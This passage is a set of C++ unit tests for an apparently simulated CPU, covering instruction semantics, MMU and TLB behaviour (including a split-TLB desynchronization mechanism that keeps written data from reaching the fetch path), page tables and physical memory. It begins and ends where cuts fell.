TEST(IsaCoverage, Shl) { EXPECT_EQ(alu_case("shl", 1, 12), 4096u); }
TEST(IsaCoverage, ShlMasksCountLikeX86) {
  EXPECT_EQ(alu_case("shl", 1, 33), 2u);  // count & 31
}
TEST(IsaCoverage, Shr) { EXPECT_EQ(alu_case("shr", 0x80000000, 31), 1u); }

TEST(IsaCoverage, NotInstruction) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  movi r1, 0x0F0F0F0F
  not r1
  movi r0, SYS_EXIT
  syscall
)"),
            0xF0F0F0F0u);
}

TEST(IsaCoverage, MoviMov) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  movi r3, 1234
  mov r1, r3
  movi r0, SYS_EXIT
  syscall
)"),
            1234u);
}

TEST(IsaCoverage, AddiNegative) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  movi r1, 10
  addi r1, -3
  movi r0, SYS_EXIT
  syscall
)"),
            7u);
}

TEST(IsaCoverage, LoadStoreWord) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  movi r4, cell
  movi r2, 0xCAFEBABE
  store [r4], r2
  load r1, [r4]
  movi r0, SYS_EXIT
  syscall
.bss
cell: .space 8
)"),
            0xCAFEBABEu);
}

TEST(IsaCoverage, LoadbZeroExtends) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  movi r4, cell
  movi r2, 0x1FF
  storeb [r4], r2          ; stores 0xFF
  loadb r1, [r4]
  movi r0, SYS_EXIT
  syscall
.bss
cell: .space 4
)"),
            0xFFu);
}

TEST(IsaCoverage, NegativeDisplacement) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  movi r4, cell+8
  movi r2, 55
  store [r4-8], r2
  load r1, [r4-8]
  movi r0, SYS_EXIT
  syscall
.bss
cell: .space 16
)"),
            55u);
}

// Branches: each taken AND not-taken direction.
u32 branch_case(const std::string& br, u32 a, u32 b) {
  return run_to_exit("_start:\n  movi r1, " + std::to_string(a) +
                     "\n  movi r2, " + std::to_string(b) +
                     "\n  cmp r1, r2\n  " + br +
                     " taken\n  movi r1, 0\n  jmp done\ntaken:\n  movi r1, "
                     "1\ndone:\n  movi r0, SYS_EXIT\n  syscall\n");
}

TEST(IsaCoverage, Jz) {
  EXPECT_EQ(branch_case("jz", 5, 5), 1u);
  EXPECT_EQ(branch_case("jz", 5, 6), 0u);
}
TEST(IsaCoverage, Jnz) {
  EXPECT_EQ(branch_case("jnz", 5, 6), 1u);
  EXPECT_EQ(branch_case("jnz", 5, 5), 0u);
}
TEST(IsaCoverage, JltSigned) {
  EXPECT_EQ(branch_case("jlt", 0xFFFFFFFF, 1), 1u);  // -1 < 1 signed
  EXPECT_EQ(branch_case("jlt", 1, 0xFFFFFFFF), 0u);
}
TEST(IsaCoverage, JgeSigned) {
  EXPECT_EQ(branch_case("jge", 1, 0xFFFFFFFF), 1u);
  EXPECT_EQ(branch_case("jge", 0xFFFFFFFF, 1), 0u);
}
TEST(IsaCoverage, JbUnsigned) {
  EXPECT_EQ(branch_case("jb", 1, 0xFFFFFFFF), 1u);  // 1 < huge unsigned
  EXPECT_EQ(branch_case("jb", 0xFFFFFFFF, 1), 0u);
}
TEST(IsaCoverage, JaeUnsigned) {
  EXPECT_EQ(branch_case("jae", 0xFFFFFFFF, 1), 1u);
  EXPECT_EQ(branch_case("jae", 1, 2), 0u);
}

TEST(IsaCoverage, JmpAndJmpr) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  movi r1, 1
  jmp over
  movi r1, 99
over:
  movi r5, finish
  jmpr r5
  movi r1, 98
finish:
  movi r0, SYS_EXIT
  syscall
)"),
            1u);
}

TEST(IsaCoverage, CallRetCallr) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  call f1
  movi r5, f2
  callr r5
  movi r0, SYS_EXIT
  syscall
f1:
  movi r1, 20
  ret
f2:
  addi r1, 22
  ret
)"),
            42u);
}

TEST(IsaCoverage, PushPopLifoOrder) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  movi r2, 1
  movi r3, 2
  push r2
  push r3
  pop r1                   ; 2
  pop r4                   ; 1
  movi r5, 10
  mul r1, r5
  add r1, r4               ; 21
  movi r0, SYS_EXIT
  syscall
)"),
            21u);
}

TEST(IsaCoverage, NopDoesNothing) {
  EXPECT_EQ(run_to_exit(R"(
_start:
  movi r1, 3
  nop
  nop
  nop
  movi r0, SYS_EXIT
  syscall
)"),
            3u);
}

TEST(IsaCoverage, InstrLengthTableMatchesDecoder) {
  // Every defined opcode has a nonzero length; every undefined one is 0.
  using arch::Op;
  const Op defined[] = {
      Op::kMovi, Op::kMov,   Op::kLoad, Op::kStore, Op::kLoadb, Op::kStoreb,
      Op::kAdd,  Op::kSub,   Op::kMul,  Op::kDiv,   Op::kAnd,   Op::kOr,
      Op::kXor,  Op::kShl,   Op::kShr,  Op::kAddi,  Op::kCmp,   Op::kCmpi,
      Op::kNot,  Op::kModu,  Op::kJmp,  Op::kJz,    Op::kJnz,   Op::kJlt,
      Op::kJge,  Op::kJb,    Op::kJae,  Op::kJmpr,  Op::kCall,  Op::kCallr,
      Op::kRet,  Op::kPush,  Op::kPop,  Op::kSyscall, Op::kNop};
  int defined_count = 0;
  for (int op = 0; op < 256; ++op) {
    const bool is_defined =
        std::find(std::begin(defined), std::end(defined),
                  static_cast<Op>(op)) != std::end(defined);
    if (is_defined) {
      EXPECT_GT(arch::instr_length(static_cast<arch::u8>(op)), 0u)
          << "opcode 0x" << std::hex << op;
      ++defined_count;
    } else {
      EXPECT_EQ(arch::instr_length(static_cast<arch::u8>(op)), 0u)
          << "opcode 0x" << std::hex << op;
    }
  }
  EXPECT_EQ(defined_count, 35);
}

TEST(IsaCoverage, FuzzGeneratorWeightTableCoversEveryOpcode) {
  // The differential fuzzer's opcode bias table must name every opcode the
  // ISA defines with a positive weight — otherwise new instructions get
  // zero fuzz coverage silently. instr_length() > 0 is the decoder's own
  // definition of "this opcode exists", so the two cannot drift apart.
  const auto& weights = sm::fuzz::opcode_weights();
  std::string missing;
  for (int op = 0; op < 256; ++op) {
    if (arch::instr_length(static_cast<arch::u8>(op)) == 0) continue;
    const auto it = weights.find(static_cast<arch::Op>(op));
    if (it == weights.end() || it->second == 0) {
      char buf[32];
      std::snprintf(buf, sizeof buf, " 0x%02x", op);
      missing += buf;
    }
  }
  EXPECT_TRUE(missing.empty())
      << "opcodes missing from fuzz::opcode_weights() (src/fuzz/"
         "generator.cc):" << missing;
}

TEST(IsaCoverage, DivByZeroKillsViaModuToo) {
  auto r = testing::run_guest(R"(
_start:
  movi r1, 5
  movi r2, 0
  modu r1, r2
  movi r0, SYS_EXIT
  syscall
)",
                              ProtectionMode::kNone);
  EXPECT_EQ(r.proc().exit_kind, kernel::ExitKind::kKilledSigill);
}

}  // namespace
}  // namespace sm
