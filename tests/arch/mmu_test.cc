// MMU tests, including the TLB-desynchronization property the entire paper
// rests on: after the I-TLB and D-TLB are filled from different PTE values,
// instruction fetches and data accesses for the SAME virtual address reach
// DIFFERENT physical frames.
#include "arch/mmu.h"

#include <gtest/gtest.h>

#include <cstring>
#include <vector>

namespace sm::arch {
namespace {

class MmuTest : public ::testing::Test {
 protected:
  MmuTest() : pm_(64), mmu_(pm_, stats_, cost_) {
    root_ = PageTable::create(pm_);
    mmu_.set_cr3(root_);
  }

  PageTable pt() { return PageTable(pm_, root_); }

  u32 map(u32 vaddr, u32 flags) {
    const u32 frame = pm_.alloc_frame();
    pt().set(vaddr, Pte::make(frame, flags));
    return frame;
  }

  metrics::Stats stats_;
  metrics::CostModel cost_;
  PhysicalMemory pm_;
  Mmu mmu_;
  u32 root_;
};

constexpr u32 kUserRw = Pte::kPresent | Pte::kUser | Pte::kWritable;

TEST_F(MmuTest, MissThenHit) {
  map(0x5000, kUserRw);
  mmu_.read8(0x5000);
  EXPECT_EQ(stats_.dtlb_misses, 1u);
  mmu_.read8(0x5004);
  EXPECT_EQ(stats_.dtlb_hits, 1u);
  EXPECT_EQ(stats_.dtlb_misses, 1u);
}

TEST_F(MmuTest, FetchUsesItlbDataUsesDtlb) {
  map(0x5000, kUserRw);
  mmu_.fetch8(0x5000);
  EXPECT_EQ(stats_.itlb_misses, 1u);
  EXPECT_EQ(stats_.dtlb_misses, 0u);
  mmu_.read8(0x5000);
  EXPECT_EQ(stats_.dtlb_misses, 1u);  // separate TLBs: both miss once
}

TEST_F(MmuTest, NotPresentFaults) {
  EXPECT_THROW(mmu_.read8(0x7000), TrapException);
  try {
    mmu_.read8(0x7000);
  } catch (const TrapException& e) {
    EXPECT_FALSE(e.trap().pf.present);
    EXPECT_EQ(e.trap().pf.addr, 0x7000u);
  }
}

TEST_F(MmuTest, SupervisorPageFaultsForUserAccess) {
  map(0x5000, Pte::kPresent | Pte::kWritable);  // no kUser: restricted
  try {
    mmu_.read8(0x5000);
    FAIL() << "expected fault";
  } catch (const TrapException& e) {
    EXPECT_TRUE(e.trap().pf.present);  // protection, not absence
  }
}

TEST_F(MmuTest, WriteToReadOnlyFaults) {
  map(0x5000, Pte::kPresent | Pte::kUser);
  mmu_.read8(0x5000);  // fills D-TLB read-only
  EXPECT_THROW(mmu_.write8(0x5000, 1), TrapException);
}

TEST_F(MmuTest, NxBlocksFetchButNotData) {
  map(0x5000, kUserRw | Pte::kNoExec);
  EXPECT_NO_THROW(mmu_.read8(0x5000));
  EXPECT_THROW(mmu_.fetch8(0x5000), TrapException);
}

TEST_F(MmuTest, TlbEntryPersistsAfterPteChange) {
  // Fill the D-TLB, then clear the PTE: cached translation still serves.
  const u32 frame = map(0x5000, kUserRw);
  mmu_.write8(0x5000, 0xAB);
  pt().set(0x5000, Pte{});  // unmap in the page table only
  EXPECT_EQ(mmu_.read8(0x5000), 0xAB);  // still reachable via D-TLB
  EXPECT_EQ(pm_.frame_bytes(frame)[0], 0xAB);
  // After invlpg the truth is re-read from the page table: fault.
  mmu_.invlpg(0x5000);
  EXPECT_THROW(mmu_.read8(0x5000), TrapException);
}

TEST_F(MmuTest, SplitTlbDesynchronization) {
  // The paper's §4.2 mechanism, at the hardware level:
  //  1. PTE -> code frame; fetch fills the I-TLB.
  //  2. PTE -> data frame; read fills the D-TLB.
  //  3. Same virtual address now routes fetch and data to different frames.
  const u32 code_frame = pm_.alloc_frame();
  const u32 data_frame = pm_.alloc_frame();
  pm_.frame_bytes(code_frame)[0] = 0x90;  // "real code"
  pm_.frame_bytes(data_frame)[0] = 0xCC;  // "injected bytes"

  pt().set(0x5000, Pte::make(code_frame, Pte::kPresent | Pte::kUser));
  EXPECT_EQ(mmu_.fetch8(0x5000), 0x90);

  pt().set(0x5000, Pte::make(data_frame, kUserRw));
  EXPECT_EQ(mmu_.read8(0x5000), 0xCC);

  // Desynchronized: fetch still sees the code frame.
  EXPECT_EQ(mmu_.fetch8(0x5000), 0x90);
  // Writing "shellcode" through the data path can NEVER reach the fetch
  // path.
  mmu_.write8(0x5000, 0x41);
  EXPECT_EQ(mmu_.fetch8(0x5000), 0x90);
  EXPECT_EQ(pm_.frame_bytes(data_frame)[0], 0x41);
}

TEST_F(MmuTest, FillDtlbViaWalkLoadsCurrentPte) {
  const u32 frame = map(0x6000, kUserRw);
  pm_.frame_bytes(frame)[8] = 0x7E;
  EXPECT_TRUE(mmu_.fill_dtlb_via_walk(0x6008));
  // Restrict the PTE afterwards, as Algorithm 1 does.
  Pte pte = pt().get(0x6000);
  pte.restrict_supervisor();
  pt().set(0x6000, pte);
  // The D-TLB entry was cached user-accessible: access still succeeds.
  EXPECT_EQ(mmu_.read8(0x6008), 0x7E);
  EXPECT_EQ(stats_.dtlb_hits, 1u);
}

TEST_F(MmuTest, FillDtlbViaWalkFailsOnUnmapped) {
  EXPECT_FALSE(mmu_.fill_dtlb_via_walk(0xA000));
}

TEST_F(MmuTest, Cr3WriteFlushesBothTlbs) {
  map(0x5000, kUserRw);
  mmu_.read8(0x5000);
  mmu_.fetch8(0x5000);
  EXPECT_TRUE(mmu_.dtlb().contains(5));
  EXPECT_TRUE(mmu_.itlb().contains(5));
  mmu_.set_cr3(root_);
  EXPECT_FALSE(mmu_.dtlb().contains(5));
  EXPECT_FALSE(mmu_.itlb().contains(5));
}

TEST_F(MmuTest, StraddlingRead32) {
  map(0x5000, kUserRw);
  map(0x6000, kUserRw);
  mmu_.write8(0x5FFF, 0x11);
  mmu_.write8(0x6000, 0x22);
  mmu_.write8(0x6001, 0x33);
  mmu_.write8(0x6002, 0x44);
  EXPECT_EQ(mmu_.read32(0x5FFF), 0x44332211u);
}

TEST_F(MmuTest, StraddlingWrite32FaultsAtomically) {
  map(0x5000, kUserRw);  // 0x6000 unmapped
  mmu_.write8(0x5FFF, 0x99);
  EXPECT_THROW(mmu_.write32(0x5FFF, 0), TrapException);
  EXPECT_EQ(mmu_.read8(0x5FFF), 0x99);  // first byte untouched
}

// --- Fetch-translation memo (the one-entry fast path ahead of the I-TLB
// set scan). The memo must never outlive any event that can change what a
// fetch translates to: invlpg, CR3 reload, software TLB insertion, or a
// PTE repoint made visible by an invalidation.

TEST_F(MmuTest, FetchMemoHitsAfterFirstFetch) {
  map(0x5000, kUserRw);
  mmu_.fetch8(0x5000);  // walk + I-TLB fill; memo armed on the TLB hit path
  EXPECT_EQ(stats_.fetch_fastpath_hits, 0u);
  mmu_.fetch8(0x5001);  // first memo consult happens on the second fetch
  mmu_.fetch8(0x5002);
  EXPECT_GE(stats_.fetch_fastpath_hits, 1u);
  EXPECT_EQ(stats_.itlb_misses, 1u);
}

TEST_F(MmuTest, InvlpgDropsFetchMemoAndForcesRewalk) {
  map(0x5000, kUserRw);
  mmu_.fetch8(0x5000);
  mmu_.fetch8(0x5001);  // memo warm
  const auto walks = stats_.hardware_walks;
  mmu_.invlpg(0x5000);
  mmu_.fetch8(0x5002);
  EXPECT_EQ(stats_.itlb_misses, 2u);          // re-walked, not memo-served
  EXPECT_GT(stats_.hardware_walks, walks);
}

TEST_F(MmuTest, Cr3ReloadDropsFetchMemo) {
  map(0x5000, kUserRw);
  mmu_.fetch8(0x5000);
  mmu_.fetch8(0x5001);
  mmu_.set_cr3(root_);  // flushes TLBs; the memo must die with them
  mmu_.fetch8(0x5002);
  EXPECT_EQ(stats_.itlb_misses, 2u);
}

TEST_F(MmuTest, InsertTlbEntryDropsFetchMemo) {
  const u32 f1 = map(0x5000, kUserRw);
  mmu_.fetch8(0x5000);
  mmu_.fetch8(0x5001);  // memo points at f1
  // Software TLB handler redirects the fetch mapping to a fresh frame (the
  // paper's software-loaded split-TLB variant). The very next fetch must
  // observe the new pfn, not the memoized one.
  const u32 f2 = pm_.alloc_frame();
  pm_.frame_bytes(f2)[3] = 0xAB;
  pm_.frame_bytes(f1)[3] = 0xCD;
  mmu_.insert_tlb_entry(/*instruction=*/true, 5, f2, /*user=*/true,
                        /*writable=*/false, /*no_exec=*/false);
  EXPECT_EQ(mmu_.fetch8(0x5003), 0xAB);
}

TEST_F(MmuTest, FetchMemoDoesNotMaskPteRepoint) {
  // Repointing the PTE without invalidation must NOT take effect (TLB
  // persistence semantics, which the memo inherits); after invlpg it must.
  const u32 f1 = map(0x5000, kUserRw);
  pm_.frame_bytes(f1)[0] = 0x11;
  mmu_.fetch8(0x5000);
  mmu_.fetch8(0x5001);  // memo warm
  const u32 f2 = pm_.alloc_frame();
  pm_.frame_bytes(f2)[0] = 0x22;
  pt().set(0x5000, Pte::make(f2, kUserRw));
  EXPECT_EQ(mmu_.fetch8(0x5000), 0x11);  // stale mapping still live
  mmu_.invlpg(0x5000);
  EXPECT_EQ(mmu_.fetch8(0x5000), 0x22);  // invalidation exposes the repoint
}

// --- Straddle regression: a 32-bit access crossing a page boundary spans
// exactly two pages, so it must cost exactly two translations — not one
// per byte.

TEST_F(MmuTest, StraddlingRead32TranslatesOncePerPage) {
  map(0x5000, kUserRw);
  map(0x6000, kUserRw);
  mmu_.read8(0x5000);  // warm both D-TLB entries so deltas are pure hits
  mmu_.read8(0x6000);
  for (u32 off : {4093u, 4094u, 4095u}) {
    const auto hits = stats_.dtlb_hits;
    mmu_.read32(0x5000 + off);
    EXPECT_EQ(stats_.dtlb_hits, hits + 2) << "offset " << off;
  }
  const auto hits = stats_.dtlb_hits;
  mmu_.read32(0x5000 + 4092);  // fully inside one page: one translation
  EXPECT_EQ(stats_.dtlb_hits, hits + 1);
}

TEST_F(MmuTest, StraddlingWrite32TranslatesOncePerPage) {
  map(0x5000, kUserRw);
  map(0x6000, kUserRw);
  mmu_.write8(0x5000, 0);
  mmu_.write8(0x6000, 0);
  const auto hits = stats_.dtlb_hits;
  mmu_.write32(0x5FFD, 0xA1B2C3D4);
  EXPECT_EQ(stats_.dtlb_hits, hits + 2);
  EXPECT_EQ(mmu_.read32(0x5FFD), 0xA1B2C3D4u);
}

// --- Data-translation memos (read/write one-entry fast paths ahead of the
// D-TLB set scan, mirroring the fetch memo). Same lifetime rules: any TLB
// churn (invlpg, CR3 reload, software insert, eviction) kills them, and a
// memo hit bills exactly what the set-scan hit it replaces would have.

TEST_F(MmuTest, DataMemoHitsAfterRepeatedReads) {
  map(0x5000, kUserRw);
  mmu_.read8(0x5000);  // walk + D-TLB fill
  EXPECT_EQ(stats_.data_fastpath_hits, 0u);
  mmu_.read8(0x5001);  // set-scan hit; read memo armed here
  mmu_.read8(0x5002);  // memo hit
  EXPECT_GE(stats_.data_fastpath_hits, 1u);
  EXPECT_EQ(stats_.dtlb_misses, 1u);
  EXPECT_EQ(stats_.dtlb_hits, 2u);  // memo hits bill as ordinary D-TLB hits
}

TEST_F(MmuTest, DataMemoReadAndWriteEntriesAreSeparate) {
  map(0x5000, kUserRw);
  mmu_.read8(0x5000);
  mmu_.read8(0x5001);
  mmu_.read8(0x5002);  // read memo warm and hitting
  const auto fast = stats_.data_fastpath_hits;
  mmu_.write8(0x5003, 1);  // first write: set scan, arms the write memo
  EXPECT_EQ(stats_.data_fastpath_hits, fast);
  mmu_.write8(0x5004, 2);  // second write: write-memo hit
  EXPECT_GT(stats_.data_fastpath_hits, fast);
}

TEST_F(MmuTest, DataMemoNeverGrantsWriteThroughReadOnlyPage) {
  map(0x5000, Pte::kPresent | Pte::kUser);  // read-only
  mmu_.read8(0x5000);
  mmu_.read8(0x5001);
  mmu_.read8(0x5002);  // read memo warm for this vpn
  EXPECT_GE(stats_.data_fastpath_hits, 1u);
  // The warm READ memo must not let a WRITE through: the write consults its
  // own (cold) memo, set-scans, and faults on the missing writable bit.
  EXPECT_THROW(mmu_.write8(0x5003, 1), TrapException);
}

TEST_F(MmuTest, InvlpgDropsDataMemoAndForcesRewalk) {
  map(0x5000, kUserRw);
  mmu_.read8(0x5000);
  mmu_.read8(0x5001);  // memo warm
  const auto walks = stats_.hardware_walks;
  mmu_.invlpg(0x5000);
  mmu_.read8(0x5002);
  EXPECT_EQ(stats_.dtlb_misses, 2u);  // re-walked, not memo-served
  EXPECT_GT(stats_.hardware_walks, walks);
}

TEST_F(MmuTest, Cr3ReloadDropsDataMemo) {
  map(0x5000, kUserRw);
  mmu_.read8(0x5000);
  mmu_.read8(0x5001);
  mmu_.set_cr3(root_);  // flushes TLBs; the memos must die with them
  mmu_.read8(0x5002);
  EXPECT_EQ(stats_.dtlb_misses, 2u);
}

TEST_F(MmuTest, InsertTlbEntryDropsDataMemo) {
  const u32 f1 = map(0x5000, kUserRw);
  mmu_.read8(0x5000);
  mmu_.read8(0x5001);  // read memo points at f1
  const u32 f2 = pm_.alloc_frame();
  pm_.frame_bytes(f2)[3] = 0xAB;
  pm_.frame_bytes(f1)[3] = 0xCD;
  // Software TLB handler redirects the data mapping: the very next read
  // must observe the new pfn, not the memoized one.
  mmu_.insert_tlb_entry(/*instruction=*/false, 5, f2, /*user=*/true,
                        /*writable=*/true, /*no_exec=*/false);
  EXPECT_EQ(mmu_.read8(0x5003), 0xAB);
}

TEST_F(MmuTest, DataMemoDoesNotMaskPteRepoint) {
  const u32 f1 = map(0x5000, kUserRw);
  pm_.frame_bytes(f1)[0] = 0x11;
  mmu_.read8(0x5000);
  mmu_.read8(0x5001);  // memo warm
  const u32 f2 = pm_.alloc_frame();
  pm_.frame_bytes(f2)[0] = 0x22;
  pt().set(0x5000, Pte::make(f2, kUserRw));
  EXPECT_EQ(mmu_.read8(0x5000), 0x11);  // TLB persistence, memo inherits it
  mmu_.invlpg(0x5000);
  EXPECT_EQ(mmu_.read8(0x5000), 0x22);  // invalidation exposes the repoint
}

TEST_F(MmuTest, DataMemoBillingIdentity) {
  // The memo is a host-side fast path ONLY: replaying the same access trace
  // with the memo disabled must produce identical values in every simulated
  // counter. Compare whole Stats structs with the fastpath diagnostics
  // (which differ by design) zeroed out.
  auto run_trace = [](bool memo_on, metrics::Stats& stats) {
    metrics::CostModel cost;
    PhysicalMemory pm(96);
    Mmu mmu(pm, stats, cost);
    mmu.set_data_memo_enabled(memo_on);
    const u32 root = PageTable::create(pm);
    PageTable pt(pm, root);
    std::vector<u32> bases;
    for (u32 i = 0; i < 24; ++i) {
      const u32 va = 0x10000 + i * 0x1000;
      pt.set(va, Pte::make(pm.alloc_frame(), kUserRw));
      bases.push_back(va);
    }
    const u32 ro = 0x40000;
    pt.set(ro, Pte::make(pm.alloc_frame(), Pte::kPresent | Pte::kUser));
    mmu.set_cr3(root);

    for (u32 rep = 0; rep < 3; ++rep) {
      for (const u32 va : bases) {  // sequential: memo-friendly
        mmu.write32(va + 8, va);
        mmu.read32(va + 8);
        mmu.read8(va + (rep * 17) % 256);
      }
      for (u32 i = 0; i + 1 < bases.size(); i += 5) {
        mmu.read32(bases[i] + 0xFFE);  // page-straddling access
      }
      for (u32 i = 0; i < 8; ++i) {  // ping-pong: memo-hostile
        mmu.read8(bases[i % 2] + i);
      }
      mmu.read8(ro);
      try {
        mmu.write8(ro + 1, 1);  // permission fault inside the trace
      } catch (const TrapException&) {
      }
      mmu.invlpg(bases[3]);
      if (rep == 1) mmu.flush_tlbs();
    }
  };

  metrics::Stats with_memo, without_memo;
  run_trace(true, with_memo);
  run_trace(false, without_memo);
  EXPECT_GT(with_memo.data_fastpath_hits, 0u);   // fast path exercised
  EXPECT_EQ(without_memo.data_fastpath_hits, 0u);

  // Every simulated counter identical.
  EXPECT_EQ(with_memo.cycles, without_memo.cycles);
  EXPECT_EQ(with_memo.dtlb_hits, without_memo.dtlb_hits);
  EXPECT_EQ(with_memo.dtlb_misses, without_memo.dtlb_misses);
  EXPECT_EQ(with_memo.hardware_walks, without_memo.hardware_walks);
  EXPECT_EQ(with_memo.page_faults, without_memo.page_faults);
  EXPECT_EQ(with_memo.tlb_flushes, without_memo.tlb_flushes);
  metrics::Stats a = with_memo, b = without_memo;
  a.data_fastpath_hits = b.data_fastpath_hits = 0;
  a.fetch_fastpath_hits = b.fetch_fastpath_hits = 0;
  EXPECT_EQ(std::memcmp(&a, &b, sizeof a), 0);
}

TEST_F(MmuTest, DataMemoLruStampMatchesSetScan) {
  // A memo hit must re-stamp the same entry a set scan would have, or later
  // eviction decisions diverge from the memo-off machine. Detect that
  // through eviction order, using the WRITE memo so interleaved reads (which
  // re-arm the read memo) can't disturb it:
  //   fill a set; scan-hit-write page0 (arms write memo); scan-hit-read
  //   page1; WRITE-MEMO-hit page0 — if touch() works page0 is now MRU and
  //   page1 is the set's LRU; after re-touching the other ways and forcing
  //   one eviction, page0 must still be resident.
  const u32 sets = mmu_.dtlb().sets();
  const u32 ways = mmu_.dtlb().ways();
  ASSERT_GE(ways, 3u);
  std::vector<u32> vpns;  // all land in set 0
  for (u32 i = 0; i <= ways; ++i) vpns.push_back((i + 16) * sets);
  for (const u32 vpn : vpns) map(vpn << 12, kUserRw);

  for (u32 i = 0; i < ways; ++i) mmu_.write8(vpns[i] << 12, 1);  // fill set
  mmu_.write8((vpns[0] << 12) + 1, 1);  // scan hit: arms write memo (page0)
  mmu_.read8((vpns[1] << 12) + 1);      // scan hit: stamps page1 newer
  const auto fast = stats_.data_fastpath_hits;
  mmu_.write8((vpns[0] << 12) + 2, 1);  // write-memo hit: page0 back to MRU
  EXPECT_GT(stats_.data_fastpath_hits, fast);
  for (u32 i = 2; i < ways; ++i) mmu_.read8((vpns[i] << 12) + 1);
  mmu_.read8(vpns[ways] << 12);  // (ways+1)-th page: evicts the LRU = page1
  const auto misses = stats_.dtlb_misses;
  mmu_.read8((vpns[0] << 12) + 3);  // page0 survived iff touch() re-stamped
  EXPECT_EQ(stats_.dtlb_misses, misses);
  EXPECT_FALSE(mmu_.dtlb().contains(vpns[1]));  // page1 paid the eviction
}

TEST_F(MmuTest, AccessedAndDirtyBitsSetOnWalk) {
  map(0x5000, kUserRw);
  mmu_.read8(0x5000);
  EXPECT_TRUE(pt().get(0x5000).accessed());
  EXPECT_FALSE(pt().get(0x5000).dirty());
  mmu_.invlpg(0x5000);
  mmu_.write8(0x5000, 1);
  EXPECT_TRUE(pt().get(0x5000).dirty());
}

}  // namespace
}  // namespace sm::arch
