#include "arch/page_table.h"

#include <gtest/gtest.h>

namespace sm::arch {
namespace {

TEST(PageTable, SetGetRoundTrip) {
  PhysicalMemory pm(16);
  PageTable pt(pm, PageTable::create(pm));
  const Pte pte = Pte::make(7, Pte::kPresent | Pte::kUser | Pte::kWritable);
  pt.set(0x08048000, pte);
  EXPECT_EQ(pt.get(0x08048000), pte);
  EXPECT_EQ(pt.get(0x08048FFF), pte);  // same page
  EXPECT_FALSE(pt.get(0x08049000).present());
}

TEST(PageTable, WalkMatchesGetAndCountsAccesses) {
  PhysicalMemory pm(16);
  metrics::Stats stats;
  PageTable pt(pm, PageTable::create(pm));
  EXPECT_FALSE(pt.walk(0x1000, &stats).has_value());
  EXPECT_EQ(stats.hardware_walks, 1u);
  pt.set(0x1000, Pte::make(3, Pte::kPresent | Pte::kUser));
  const auto pte = pt.walk(0x1000, &stats);
  ASSERT_TRUE(pte.has_value());
  EXPECT_EQ(pte->pfn(), 3u);
}

TEST(PageTable, DistinctDirectoriesForFarApartAddresses) {
  PhysicalMemory pm(16);
  PageTable pt(pm, PageTable::create(pm));
  pt.set(0x00001000, Pte::make(1, Pte::kPresent));
  pt.set(0xBFFFF000, Pte::make(2, Pte::kPresent));
  EXPECT_EQ(pt.get(0x00001000).pfn(), 1u);
  EXPECT_EQ(pt.get(0xBFFFF000).pfn(), 2u);
}

TEST(PageTable, ForEachMappingVisitsAllPresent) {
  PhysicalMemory pm(16);
  PageTable pt(pm, PageTable::create(pm));
  pt.set(0x1000, Pte::make(1, Pte::kPresent));
  pt.set(0x2000, Pte::make(2, Pte::kPresent));
  pt.set(0x40000000, Pte::make(3, Pte::kPresent));
  int count = 0;
  u32 seen_mask = 0;
  pt.for_each_mapping([&](u32 vaddr, Pte pte) {
    ++count;
    seen_mask |= 1u << pte.pfn();
    if (pte.pfn() == 3) {
      EXPECT_EQ(vaddr, 0x40000000u);
    }
  });
  EXPECT_EQ(count, 3);
  EXPECT_EQ(seen_mask, 0b1110u);
}

TEST(PageTable, DestroyReturnsTableFrames) {
  PhysicalMemory pm(16);
  const u32 before = pm.frames_in_use();
  PageTable pt(pm, PageTable::create(pm));
  pt.set(0x1000, Pte::make(1, Pte::kPresent));
  pt.set(0x40000000, Pte::make(2, Pte::kPresent));
  EXPECT_EQ(pm.frames_in_use(), before + 3);  // dir + 2 tables
  pt.destroy();
  EXPECT_EQ(pm.frames_in_use(), before);
}

TEST(PageTable, ClearRemovesMapping) {
  PhysicalMemory pm(16);
  PageTable pt(pm, PageTable::create(pm));
  pt.set(0x5000, Pte::make(4, Pte::kPresent));
  pt.clear(0x5000);
  EXPECT_FALSE(pt.get(0x5000).present());
}

TEST(Pte, RestrictUnrestrict) {
  Pte pte = Pte::make(9, Pte::kPresent | Pte::kUser | Pte::kSplit);
  EXPECT_TRUE(pte.user());
  pte.restrict_supervisor();
  EXPECT_FALSE(pte.user());
  EXPECT_TRUE(pte.split());
  EXPECT_EQ(pte.pfn(), 9u);
  pte.unrestrict();
  EXPECT_TRUE(pte.user());
}

}  // namespace
}  // namespace sm::arch
