#include "arch/phys_mem.h"

#include <gtest/gtest.h>

namespace sm::arch {
namespace {

TEST(PhysMem, AllocZeroesAndRefcounts) {
  PhysicalMemory pm(8);
  const u32 f = pm.alloc_frame();
  EXPECT_EQ(pm.refcount(f), 1u);
  EXPECT_EQ(pm.frames_in_use(), 1u);
  for (u8 b : pm.frame_bytes(f)) EXPECT_EQ(b, 0);
  pm.ref_frame(f);
  EXPECT_EQ(pm.refcount(f), 2u);
  pm.unref_frame(f);
  EXPECT_EQ(pm.frames_in_use(), 1u);
  pm.unref_frame(f);
  EXPECT_EQ(pm.frames_in_use(), 0u);
}

TEST(PhysMem, ExhaustionThrows) {
  PhysicalMemory pm(2);
  pm.alloc_frame();
  pm.alloc_frame();
  EXPECT_THROW(pm.alloc_frame(), OutOfMemoryError);
}

TEST(PhysMem, FreedFrameIsReusedZeroed) {
  PhysicalMemory pm(1);
  const u32 f = pm.alloc_frame();
  pm.frame_bytes(f)[0] = 0xAA;
  pm.unref_frame(f);
  const u32 g = pm.alloc_frame();
  EXPECT_EQ(g, f);
  EXPECT_EQ(pm.frame_bytes(g)[0], 0);
}

TEST(PhysMem, ReadWrite32LittleEndian) {
  PhysicalMemory pm(1);
  pm.alloc_frame();
  pm.write32(4, 0x11223344);
  EXPECT_EQ(pm.read8(4), 0x44);
  EXPECT_EQ(pm.read8(7), 0x11);
  EXPECT_EQ(pm.read32(4), 0x11223344u);
}

TEST(PhysMem, OutOfRangeAccessThrows) {
  PhysicalMemory pm(1);
  EXPECT_THROW(pm.read8(kPageSize), std::out_of_range);
  EXPECT_THROW(pm.write32(kPageSize - 2, 1), std::out_of_range);
}

TEST(PhysMem, DoubleUnrefThrows) {
  PhysicalMemory pm(2);
